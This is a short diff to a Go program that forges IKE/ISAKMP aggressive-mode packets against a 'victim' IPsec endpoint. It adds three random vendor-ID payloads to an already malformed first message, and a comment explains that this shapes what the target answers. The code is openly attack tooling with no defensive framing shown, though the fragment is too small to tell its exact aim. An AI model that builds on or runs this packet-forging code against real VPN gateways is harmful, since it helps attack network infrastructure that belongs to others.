@@ -238,11 +238,13 @@ func headerLengths(a *attack) {
 	}
 }
 
-// aggressiveChain is what a first message of aggressive mode has.
+// aggressiveChain is what a first message of aggressive mode has, with vendor ids
+// behind it: the victim keeps silent where its answer would be the longer one.
 func (a *attack) aggressiveChain(f *forger) []isakmp.Payload {
 	return []isakmp.Payload{
 		{Type: isakmp.SA, Body: f.offer}, {Type: isakmp.KE, Body: append([]byte{0}, a.bytes(255)...)},
 		{Type: isakmp.Nonce, Body: f.ni}, {Type: isakmp.ID, Body: f.identity()},
+		{Type: isakmp.Vendor, Body: a.bytes(16)}, {Type: isakmp.Vendor, Body: a.bytes(16)}, {Type: isakmp.Vendor, Body: a.bytes(16)},
 	}
 }
 
